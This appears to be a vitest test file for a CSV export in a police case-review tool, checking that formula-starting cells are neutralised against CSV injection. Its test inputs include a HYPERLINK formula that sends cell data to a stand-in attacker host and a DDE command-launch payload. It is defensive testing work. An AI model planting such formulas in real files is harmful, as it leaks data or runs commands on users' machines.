// The CSV export is opened in spreadsheets by compliance officers: a cell an investigator controls must never run
// there as a formula (OWASP CSV injection), and it must still parse back to the text that was written.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './exports';
import type { ReviewRecord } from './reviewRecords';

const record = (overrides: Partial<ReviewRecord> = {}): ReviewRecord => ({
  id: 'c-1',
  status: 'open',
  openedAt: Date.UTC(2026, 10, 2, 9),
  closedAt: null,
  requestingCountry: 'UA',
  requestedCountry: 'PL',
  requester: { userId: 'u-1', displayName: 'Anna', agencyId: 'a-1', agencyName: 'National Police of Ukraine' },
  counterparts: [{ userId: 'u-2', displayName: 'Piotr', agencyName: 'Policja' }],
  grounds: ['threat_to_life'],
  narrative: 'A hostage is held in a flat in Lviv.',
  caseReference: 'UA-2026-0042',
  offenceCategory: 'kidnapping',
  soughtInformation: 'subscriber data',
  handlingCode: 'H1',
  justificationHash: 'ab'.repeat(32),
  notifications: [{ side: 'requesting', countryCode: 'UA', createdAt: 1, acknowledgedAt: null, escalationLevel: 2 }],
  formalRequest: null,
  messages: { count: 3, firstAt: null, lastAt: null },
  review: { status: 'unreviewed', decidedAt: null, reviewerName: null, comment: null },
  integrity: { matchesLog: true, openingLogIndex: 7, groundsMatchLog: true, mismatchedColumns: [], databaseGrounds: ['threat_to_life'] },
  ...overrides,
});
const rows = (csv: string) => parse(csv, { columns: true }) as Array<Record<string, string>>;

describe('toCsv', () => {
  // OWASP: https://owasp.org/www-community/attacks/CSV_Injection — =, +, -, @, tab and CR start a formula.
  const formulas = ['=HYPERLINK("https://evil.example/?d="&A2,"open")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];

  it.each(formulas)('neutralises a cell that would start a formula: %j', (formula) => {
    const csv = toCsv([record({ narrative: formula, caseReference: formula, requester: { ...record().requester, displayName: formula } })]);
    const [row] = rows(csv);
    for (const column of ['narrative', 'case_reference', 'requester'] as const) expect(row![column]).toBe(`'${formula}`);
  });

  it('neutralises joined cells whose first part would start a formula', () => {
    const [row] = rows(toCsv([record({ counterparts: [{ userId: 'u-2', displayName: '=1+1', agencyName: null }, { userId: 'u-3', displayName: 'Ola', agencyName: null }] })]));
    expect(row!.counterparts).toBe("'=1+1; Ola");
  });

  it('keeps ordinary text, quotes and separators exactly, and numbers as numbers', () => {
    const narrative = 'He said "leave now", then left; a - b = c';
    const csv = toCsv([record({ narrative })]);
    // Text cells are quoted (OWASP), counts are not: a spreadsheet reads them as numbers.
    expect(csv.split('\n')[1]).toContain('"UA-2026-0042","kidnapping","H1","He said ""leave now"", then left; a - b = c"');
    expect(csv.split('\n')[1]).toMatch(/,2,"","",/);
    const [row] = rows(csv);
    expect(row).toMatchObject({ narrative, case_reference: 'UA-2026-0042', message_count: '3', ncb_max_escalation: '2', opened_at: '2026-11-02T09:00:00.000Z' });
  });
});
